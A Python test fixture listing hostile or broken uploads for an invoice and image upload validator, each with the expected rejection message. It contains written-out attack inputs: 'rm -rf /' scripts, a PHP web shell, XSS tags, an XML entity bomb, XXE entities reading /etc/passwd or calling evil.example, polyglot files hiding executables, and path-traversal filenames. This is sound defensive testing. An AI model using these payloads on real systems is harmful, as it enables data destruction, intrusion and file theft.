"""Files that somebody may send to do harm, or that are no good: each with a word of the sentence it gets.

A row is: what it is, the name it comes with, its bytes, and a part of the sentence of the refusal.
"""

import io
import re
import zipfile
import zlib
from collections.abc import Iterator

from tests.papers import JPEG, PDF, PNG, XML, chunk, noted, png

Upload = tuple[str, str, bytes, str]

OTHER, BROKEN, TWO, PLACE = "is not a PDF", "is broken", "more than one kind", "The name of"
DOCTYPE, ILL, PAGE = "DOCTYPE", "not well-formed", "a page or a drawing"
OPENED, INSTRUCTION = "that a program opens", "an instruction for a program"


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("run.sh", "rm -rf /")
    return packed.getvalue()


ZIP = _zip()
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
SEVEN = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)
CABINET = b"MSCF\0\0\0\0" + bytes(40)
PROGRAM = b"MZ\x90\x00" + bytes(range(256)) * 2
TWICE = noted(b"x", b"y")[:-20] + noted(b"x", b"y")[-32:-20] + noted(b"x", b"y")[-8:]
LAUGHS = (
    b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>"
    + b"".join(
        b"<!ENTITY %c '%b'>" % (here, b"&%c;" % before * 10)
        for before, here in zip(b"abcdefgh", b"bcdefghi", strict=True)
    )
    + b"]><l>&i;</l>"
)
COMMENT = b"\xff\xfe\x00\x29<script>alert(document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
XHTML = b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>"
XSLT = b"<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform' version='1.0'/>"
MICROSOFT, MOZILLA = b"http://schemas.microsoft.com", b"http://www.mozilla.org/keymaster/gatekeeper/there"
FLAT = b"<o:document xmlns:o='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"
INCLUDE = b"<a xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='file:///etc/passwd'/></a>"
ENDLESS = re.sub(rb"(\xff\xc0...)....", lambda found: found[1] + b"\xff" * 4, JPEG, flags=re.DOTALL)
HUGE = PNG[:16] + b"\x00\x01\x00\x00\x00\x01\x00\x00" + PNG[24:]


def _with_checksum(png_file: bytes) -> bytes:
    return png_file[:29] + zlib.crc32(png_file[12:29]).to_bytes(4) + png_file[33:]


def remark(words: bytes) -> bytes:
    """Make the part of a JPEG in which people write something."""
    return b"\xff\xfe" + (2 + len(words)).to_bytes(2) + words


HOSTILE: tuple[Upload, ...] = (
    # what they are not
    ("nothing at all", "invoice.pdf", b"", "is empty"),
    ("a program for Windows", "invoice.pdf", b"MZ\x90\x00" + bytes(60), OTHER),
    ("a program for Linux", "invoice.pdf", b"\x7fELF\x02\x01\x01" + bytes(60), OTHER),
    ("a script", "invoice.pdf", b"#!/bin/sh\nrm -rf /\n", OTHER),
    ("a page with a script", "invoice.pdf", b"<html><script>alert(1)</script></html>", PAGE),
    ("a page that begins with a document type", "invoice.xml", b"<!DOCTYPE html><html></html>", DOCTYPE),
    ("a page server's program", "invoice.xml", b"<?php system($_GET['c']); ?>", INSTRUCTION),
    ("a drawing that runs a script", "logo.png", SVG, PAGE),
    ("a page in XML", "invoice.xml", XHTML, PAGE),
    ("an archive", "invoice.pdf", ZIP, OTHER),
    ("a workbook with another name", "invoice.xml", b"PK\x03\x04[Content_Types].xml", OTHER),
    ("a moving picture", "photo.png", b"GIF89a" + bytes(20), OTHER),
    ("a bitmap", "photo.jpg", b"BM" + bytes(60), OTHER),
    ("an old word processor's file", "invoice.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", OTHER),
    ("plain words", "invoice.pdf", b"Pay EUR 1,000 to me.", OTHER),
    ("a PDF behind something else", "invoice.pdf", b"MZ\n" + PDF, OTHER),
    # broken
    ("the beginning of a PDF", "invoice.pdf", b"%PDF-1.7\n", BROKEN),
    ("a PDF that was cut off", "invoice.pdf", PDF[:-20], BROKEN),
    ("a PDF without anything in it", "invoice.pdf", b"%PDF-1.7\n%%EOF", BROKEN),
    ("the beginning of a PNG", "photo.png", PNG[:16], BROKEN),
    ("a PNG that was cut off", "photo.png", PNG[:-6], BROKEN),
    ("a PNG with another checksum", "photo.png", PNG[:-16] + b"\0\0\0\0" + PNG[-12:], BROKEN),
    ("a PNG with too little in it", "photo.png", png(100, 100, rows=b"\0\0"), BROKEN),
    ("a PNG that does not unpack", "photo.png", PNG[:33] + chunk(b"IDAT", b"garbage") + PNG[-12:], BROKEN),
    ("a PNG of no size", "photo.png", png(0, 0), BROKEN),
    ("a PNG that would fill the memory", "photo.png", _with_checksum(HUGE), "100 million"),
    ("a JPEG that would fill the memory", "photo.jpg", ENDLESS, "100 million"),
    ("the beginning of a JPEG", "photo.jpg", JPEG[:40], BROKEN),
    ("a JPEG that was cut off", "photo.jpg", JPEG[:-2], BROKEN),
    ("a JPEG without a picture", "photo.jpg", b"\xff\xd8\xff\xd9", BROKEN),
    ("a JPEG with a part that is too long", "photo.jpg", b"\xff\xd8\xff\xe0\xff\xff", BROKEN),
    ("more pictures in one JPEG than a camera writes", "photo.jpg", JPEG * 17, "more than 16 pictures"),
    ("XML that is not closed", "invoice.xml", b"<Invoice><ID>12</ID>", ILL),
    ("XML with an unknown prefix", "invoice.xml", b"<cbc:ID>12</cbc:ID>", ILL),
    (
        "XML in an unknown encoding",
        "invoice.xml",
        b"<?xml version='1.0' encoding='x-nobody'?><a/>",
        "encoding",
    ),
    # bombs and traps in XML
    ("a billion laughs", "invoice.xml", LAUGHS, DOCTYPE),
    (
        "an entity that grows with its use",
        "a.xml",
        b"<!DOCTYPE a [<!ENTITY x '" + b"x" * 9999 + b"'>]><a>&x;</a>",
        DOCTYPE,
    ),
    (
        "an entity that reads a file",
        "a.xml",
        b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        DOCTYPE,
    ),
    (
        "an entity that asks the network",
        "a.xml",
        b"<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]><a/>",
        DOCTYPE,
    ),
    ("a document type in another encoding", "a.xml", "<!DOCTYPE a><a/>".encode("utf-16"), DOCTYPE),
    ("elements without end within one another", "a.xml", b"<a>" * 5000 + b"</a>" * 5000, "deeper"),
    (
        "a style sheet that runs",
        "a.xml",
        b"<?xml-stylesheet type='text/xsl' href='evil.xsl'?><a/>",
        "style sheet",
    ),
    ("a program in XML", "a.xml", XSLT, PAGE),
    ("a file drawn in from elsewhere", "a.xml", INCLUDE, PAGE),
    # documents of programs, as XML
    (
        "a workbook that its program opens",
        "a.xml",
        b'<?mso-application progid="Excel.Sheet"?><a/>',
        INSTRUCTION,
    ),
    (
        "a workbook as XML",
        "a.xml",
        b"<Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'/>",
        OPENED,
    ),
    (
        "a letter as XML",
        "a.xml",
        b"<w:wordDocument xmlns:w='%b/office/word/2003/wordml'/>" % MICROSOFT,
        OPENED,
    ),
    (
        "a packed letter as XML",
        "a.xml",
        b"<p:package xmlns:p='%b/office/2006/xmlPackage'/>" % MICROSOFT,
        OPENED,
    ),
    ("a letter with scripts as XML", "a.xml", FLAT, OPENED),
    (
        "a part of a letter as an attribute",
        "a.xml",
        FLAT.replace(b"o:document ", b"a o:mimetype='x' "),
        OPENED,
    ),
    ("a window of a browser", "a.xml", b"<window xmlns='%b.is.only.xul'/>" % MOZILLA, OPENED),
    ("a script for Windows", "a.xml", b"<job><object id='o' progid='WScript.Shell'/></job>", OPENED),
    ("scripts for Windows", "a.xml", b"<Package><job id='a'/></Package>", OPENED),
    ("a program of the web", "a.xml", b"<jnlp spec='1.0+'/>", OPENED),
    ("a program that builds", "a.xml", b"<Project xmlns='%b/developer/msbuild/2003'/>" % MICROSOFT, OPENED),
    ("a program by an attribute", "a.xml", b"<a x:version='1' xmlns:x='%b'/>" % XSLT.split(b"'")[1], PAGE),
    ("a formula that leads somewhere", "a.xml", b"<math xmlns='http://www.w3.org/1998/Math/MathML'/>", PAGE),
    # two kinds at once
    *(
        (f"{what} {where}", name, content, TWO)
        for what, begin in (("a RAR", RAR), ("a 7z", SEVEN), ("a cabinet", CABINET), ("a ZIP", ZIP))
        for where, name, content in (
            ("in a chunk of a PNG", "photo.png", png(also=chunk(b"prIv", begin))),
            ("in the words of a PNG", "photo.png", png(also=chunk(b"tEXt", b"Comment\0" + begin))),
            ("in the remark of a JPEG", "photo.jpg", JPEG[:2] + remark(begin) + JPEG[2:]),
            ("among the points of a JPEG", "photo.jpg", JPEG[:-2] + begin + JPEG[-2:]),
            ("within a PDF", "invoice.pdf", PDF.replace(b"endobj", begin + b"endobj", 1)),
        )
    ),
    ("a program as a chunk of a PNG", "photo.png", png(also=chunk(b"prIv", PROGRAM)), TWO),
    (
        "a program for Linux as a chunk of a PNG",
        "photo.png",
        png(also=chunk(b"prIv", b"\x7fELF" + bytes(9))),
        TWO,
    ),
    ("a program as the remark of a JPEG", "photo.jpg", JPEG[:2] + remark(PROGRAM) + JPEG[2:], TWO),
    ("a PDF that is an archive too", "invoice.pdf", PDF[:-6] + ZIP + b"\n%%EOF\n", TWO),
    ("an archive behind a PDF", "invoice.pdf", PDF + ZIP, TWO),
    ("a page within a PDF", "invoice.pdf", PDF[:9] + b"%<html><script>alert(1)</script>\n" + PDF[9:], TWO),
    ("an archive behind a PNG", "photo.png", PNG + ZIP, TWO),
    ("a script behind a PNG", "photo.png", PNG + b"<?php system($_GET['c']); ?>", TWO),
    (
        "a script in the words of a PNG",
        "photo.png",
        png(also=chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")),
        TWO,
    ),
    ("an archive behind a JPEG", "photo.jpg", JPEG + ZIP, TWO),
    ("anything between the marks of a phone's note", "photo.jpg", JPEG + b"SEFH" + PROGRAM + b"SEFT", TWO),
    ("a program as a phone's note", "photo.jpg", noted(b"1438598400000", PROGRAM), TWO),
    ("a phone's note that is too long", "photo.jpg", noted(b"x" * 0x10000), TWO),
    ("a phone's note with a long name", "photo.jpg", noted(b"x", name=b"x" * 65), TWO),
    ("a phone's note whose name is none", "photo.jpg", noted(b"x", name=b"MZ\x90\0"), TWO),
    ("a program between a phone's notes and their directory", "photo.jpg", noted(b"x", gap=PROGRAM), TWO),
    ("words before a phone's notes", "photo.jpg", JPEG + b"words" + noted(b"x")[len(JPEG) :], TWO),
    ("a directory of more notes than there are", "photo.jpg", noted(b"x", said=2), TWO),
    ("a directory of no notes", "photo.jpg", noted(), TWO),
    ("a phone's notes of which one stands twice", "photo.jpg", TWICE, TWO),
    ("a page in the remark of a JPEG", "photo.jpg", JPEG[:2] + COMMENT + JPEG[2:], TWO),
    ("a PDF in the remark of a JPEG", "photo.jpg", JPEG[:2] + b"\xff\xfe\x00\x0b%PDF-1.4\n" + JPEG[2:], TWO),
    # names that lead somewhere
    ("a way out of the folder", "../../etc/cron.d/evil.pdf", PDF, PLACE),
    ("a way out on Windows", "..\\..\\evil.pdf", PDF, PLACE),
    ("a file of the system", "/etc/passwd", PDF, PLACE),
    ("a drive", "C:evil.pdf", PDF, PLACE),
    ("a stream beside a file", "invoice.pdf:evil.exe", PDF, PLACE),
    ("a way out, disguised", "..%2f..%2fevil.pdf", PDF, PLACE),
    ("an end within the name", "invoice.pdf%00.exe", PDF, PLACE),
    ("letters that turn round", "invoice\u202efdp.exe", PDF, PLACE),
    ("the folder itself", "..", PDF, PLACE),
)


def heads() -> Iterator[str]:
    """Name the hostile files, to tell the tests apart."""
    return (what for what, *_ in HOSTILE)


SOUND = (PDF, PNG, JPEG, noted(b"1438598400000", b"{}"), XML)
